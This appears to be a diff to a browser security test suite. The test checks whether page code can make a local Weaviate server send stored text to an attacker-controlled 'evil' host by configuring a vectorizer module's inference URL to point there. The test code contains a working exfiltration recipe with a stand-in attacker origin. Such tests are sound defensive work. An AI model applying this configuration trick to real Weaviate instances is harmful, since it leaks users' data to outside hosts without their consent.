@@ -1,5 +1,6 @@
 import type { Page } from 'puppeteer-core';
 import { frameDocument } from '../../src/live/frame/document.ts';
+import { secondServer } from '../facts/second-server.ts';
 import { openEvil } from '../live/evil.ts';
 import { openFront, reply } from '../live/front.ts';
 import { addObject, count } from '../live/server.ts';
@@ -86,16 +87,22 @@ test('code with synchronous requests deletes a foreign collection, and nobody is
 test('code with synchronous requests has Weaviate send texts elsewhere, and nobody is asked', async ({
   window: firefox,
   site,
-  stack,
 }) => {
   const evil = await openEvil();
+  // A process of this machine reaches another one, whatever the run's stack is made of.
+  const server = await secondServer({
+    ENABLE_MODULES: 'text2vec-model2vec',
+    MODEL2VEC_INFERENCE_API: evil.origin,
+  });
+  await server.ready();
   const moduleConfig = { 'text2vec-model2vec': { inferenceUrl: evil.origin } };
   const collection = { class: 'Mine', vectorizer: 'text2vec-model2vec', moduleConfig };
   const object = { class: 'Mine', properties: { text: 'not yours' } };
-  const code = `ask('POST', '${stack.rest}/v1/schema', ${JSON.stringify(collection)});
-    return ask('POST', '${stack.rest}/v1/objects', ${JSON.stringify(object)});`;
-  await run(firefox, site, `${stack.rest}/v1/`, code);
+  const code = `ask('POST', '${server.rest}/v1/schema', ${JSON.stringify(collection)});
+    return ask('POST', '${server.rest}/v1/objects', ${JSON.stringify(object)});`;
+  await run(firefox, site, `${server.rest}/v1/`, code);
   expect(evil.heard).toContain('POST /vectors');
+  await server.stop();
   await evil.close();
 });
 
